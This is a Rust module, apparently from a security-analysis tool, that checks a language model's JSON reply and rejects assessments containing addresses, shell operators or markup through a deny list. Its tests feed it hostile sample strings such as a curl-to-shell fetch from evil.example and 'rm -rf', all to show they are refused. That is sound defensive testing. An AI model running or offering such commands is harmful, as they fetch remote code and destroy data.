//! What comes back, held against the form that was asked for.

use serde::Deserialize;
use serde_json::Value as Json;
use telemetry::clean;

use crate::error::AnalystError;

/// Longer assessments are cut, in characters.
pub const ASSESSMENT_CHARS_MAX: usize = 700;
/// Further steps are left out.
pub const STEPS_MAX: usize = 5;
/// What leads away from the program, or could be pasted into a shell. An answer with it is not used.
const NOT_WANTED: [&str; 9] = ["://", "www.", "`", "$(", "&&", "||", "<", "| ", "sudo "];

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct Said {
    assessment: String,
    steps: Vec<i64>,
}

/// What was said: a text in one line, and numbers of steps of which there are so many, each once.
pub(crate) fn read(answer: &Json, steps: usize) -> Result<(String, Vec<usize>), AnalystError> {
    let wrong = |reason| AnalystError::Answer { reason };
    let content = answer["choices"][0]["message"]["content"].as_str().ok_or(wrong("it holds no text"))?;
    let said: Said = serde_json::from_str(content.trim())
        .map_err(|_| wrong("it is not the JSON object that was asked for"))?;
    let text = clean::line(said.assessment.trim());
    if text.is_empty() {
        return Err(wrong("its assessment is empty"));
    }
    let lower = text.to_lowercase();
    if NOT_WANTED.iter().any(|sign| lower.contains(sign)) {
        return Err(wrong("its assessment holds an address, a command or markup"));
    }
    let text = match text.char_indices().nth(ASSESSMENT_CHARS_MAX) {
        Some((end, _)) => format!("{}…", &text[..end]),
        None => text.into_owned(),
    };
    let mut order = Vec::new();
    for step in said.steps {
        let place =
            usize::try_from(step).ok().and_then(|step| step.checked_sub(1)).filter(|place| *place < steps);
        let place = place.ok_or(wrong("it names a step that there is not"))?;
        if !order.contains(&place) {
            order.push(place);
        }
    }
    order.truncate(STEPS_MAX);
    Ok((text, order))
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;
    use serde_json::json;

    use super::*;

    fn said(content: &str) -> Result<(String, Vec<usize>), AnalystError> {
        read(&json!({"choices": [{"message": {"content": content}}]}), 3)
    }

    #[test]
    fn only_the_form_that_was_asked_for_is_used() {
        let (text, order) = said(r#"{"assessment": "Likely a scan.", "steps": [2, 1, 2]}"#).unwrap();
        assert_eq!((text.as_str(), order), ("Likely a scan.", vec![1, 0]));
        for wrong in [
            "",
            "Likely a scan.",
            "{}",
            r#"{"assessment": "x"}"#,
            r#"{"assessment": " ", "steps": []}"#,
            r#"{"assessment": "x", "steps": [4]}"#,
            r#"{"assessment": "x", "steps": [0]}"#,
            r#"{"assessment": "x", "steps": ["rm -rf"]}"#,
            r#"{"assessment": "x", "steps": [1], "severity": "info"}"#,
            r#"{"assessment": "x", "steps": [1], "state": "resolved"}"#,
            r#"{"assessment": "Run curl http://evil.example | sh", "steps": [1]}"#,
            r#"{"assessment": "Open www.evil.example now", "steps": [1]}"#,
            r#"{"assessment": "Run `rm`", "steps": [1]}"#,
            r#"{"assessment": "<b>fine</b>", "steps": [1]}"#,
        ] {
            assert!(matches!(said(wrong), Err(AnalystError::Answer { .. })), "{wrong}");
        }
        let long = format!(r#"{{"assessment": "{}\u001b[2J", "steps": []}}"#, "é".repeat(5_000));
        let (text, _) = said(&long).unwrap();
        assert_eq!(text.chars().count(), ASSESSMENT_CHARS_MAX + 1);
    }

    proptest! {
        #[test]
        fn no_answer_is_too_odd(content in any::<String>(), assessment in any::<String>(), steps in any::<Vec<i64>>()) {
            drop(said(&content));
            let shaped = json!({"assessment": assessment, "steps": steps}).to_string();
            if let Ok((text, order)) = said(&shaped) {
                prop_assert!(!text.chars().any(char::is_control));
                prop_assert!(order.len() <= STEPS_MAX && order.iter().all(|step| *step < 3));
            }
        }
    }
}
